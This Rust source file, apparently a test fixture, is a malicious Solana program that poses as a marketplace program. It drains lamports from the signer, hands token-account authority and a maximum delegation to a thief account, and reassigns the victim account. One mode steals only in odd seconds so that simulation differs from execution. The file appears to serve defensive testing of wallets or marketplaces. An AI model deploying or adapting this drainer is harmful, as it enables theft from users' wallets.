//! For tests only: steals from the signer. Byte 8 of the data selects the action, where the first argument of a
//! marketplace instruction begins, so that this program can take the place of a marketplace program. With `FORWARD` it
//! first makes the call in its data, so that the requested operation happens, and then acts.
#![cfg_attr(target_arch = "bpf", no_std)]

use common::{ids, pda::transfer_lamports, sysvars, token::Holding, Result};
use pinocchio::{
    cpi::{invoke, invoke_with_bounds},
    error::ProgramError,
    instruction::{InstructionAccount, InstructionView},
    AccountView, Address, ProgramResult,
};

common::program!(process, 64);

/// Offset of the first argument of a marketplace instruction.
const DEED: usize = 8;
const FORWARD: u8 = 0x80;
/// After that argument: index of the call's first account, index of its program, and its data.
const CALL: usize = 16;
const MOST_ACCOUNTS: usize = 40;
const STOLEN_LAMPORTS: u64 = 1_000_000_000;
const ASSIGN: u8 = 1;
const APPROVE: u8 = 4;
const SET_AUTHORITY: u8 = 6;
const ACCOUNT_OWNER: u8 = 2;

pub fn process(program: &Address, accounts: &mut [AccountView], data: &[u8]) -> ProgramResult {
    let accounts: &[AccountView] = accounts;
    let victim = find(accounts, |one| one.is_signer() && one.is_writable())?;
    let thief = find(accounts, |one| !one.is_signer() && one.is_writable() && !one.owned_by(&ids::TOKEN))?;
    let deed = data.get(DEED).copied().unwrap_or(0);
    if deed & FORWARD != 0 {
        forward(accounts, data.get(CALL..).unwrap_or(&[]))?;
    }
    match deed & !FORWARD {
        1 => transfer_lamports(victim, thief, STOLEN_LAMPORTS),
        2 => at_odd_times(victim, thief),
        3 => set_authority(token_of(accounts, victim)?, victim, thief),
        4 => approve(token_of(accounts, victim)?, victim, thief),
        5 => assign(victim, program),
        _ => Ok(()),
    }
}

/// In a stack frame of its own, because it needs most of one.
#[inline(never)]
fn forward(accounts: &[AccountView], call: &[u8]) -> ProgramResult {
    let [first, place, data @ ..] = call else { return Err(ProgramError::InvalidInstructionData) };
    let (first, place) = (usize::from(*first), usize::from(*place));
    let views = accounts.get(first..place).ok_or(ProgramError::NotEnoughAccountKeys)?;
    let program = accounts.get(place).ok_or(ProgramError::NotEnoughAccountKeys)?;
    let uses: [InstructionAccount; MOST_ACCOUNTS] = core::array::from_fn(|at| {
        let one = views.get(at).unwrap_or(program);
        InstructionAccount::new(one.address(), one.is_writable(), one.is_signer())
    });
    let accounts = uses.get(..views.len()).ok_or(ProgramError::InvalidArgument)?;
    let instruction = InstructionView { program_id: program.address(), accounts, data };
    invoke_with_bounds::<MOST_ACCOUNTS, AccountView>(&instruction, views)
}

fn find(accounts: &[AccountView], wanted: impl Fn(&AccountView) -> bool) -> Result<&AccountView> {
    accounts.iter().find(|one| wanted(one)).ok_or(ProgramError::NotEnoughAccountKeys)
}

fn token_of<'a>(accounts: &'a [AccountView], victim: &AccountView) -> Result<&'a AccountView> {
    find(accounts, |one| {
        one.is_writable() && Holding::read(one).is_ok_and(|holding| &holding.owner == victim.address())
    })
}

/// Steals only in every other second, so that the simulation may differ from the execution.
fn at_odd_times(victim: &AccountView, thief: &AccountView) -> ProgramResult {
    match sysvars::now()? % 2 {
        0 => Ok(()),
        _ => transfer_lamports(victim, thief, STOLEN_LAMPORTS),
    }
}

fn set_authority(token: &AccountView, victim: &AccountView, thief: &AccountView) -> ProgramResult {
    let mut data = [0; 35];
    data[0] = SET_AUTHORITY;
    data[1] = ACCOUNT_OWNER;
    data[2] = 1;
    data[3..].copy_from_slice(thief.address().as_array());
    let accounts = [
        InstructionAccount::writable(token.address()),
        InstructionAccount::readonly_signer(victim.address()),
    ];
    invoke(&InstructionView { program_id: &ids::TOKEN, accounts: &accounts, data: &data }, &[token, victim])
}

fn approve(token: &AccountView, victim: &AccountView, thief: &AccountView) -> ProgramResult {
    let mut data = [0xff; 9];
    data[0] = APPROVE;
    let accounts = [
        InstructionAccount::writable(token.address()),
        InstructionAccount::readonly(thief.address()),
        InstructionAccount::readonly_signer(victim.address()),
    ];
    let instruction = InstructionView { program_id: &ids::TOKEN, accounts: &accounts, data: &data };
    invoke(&instruction, &[token, thief, victim])
}

fn assign(victim: &AccountView, program: &Address) -> ProgramResult {
    let mut data = [0; 36];
    data[0] = ASSIGN;
    data[4..].copy_from_slice(program.as_array());
    let accounts = [InstructionAccount::writable_signer(victim.address())];
    invoke(&InstructionView { program_id: &ids::SYSTEM, accounts: &accounts, data: &data }, &[victim])
}
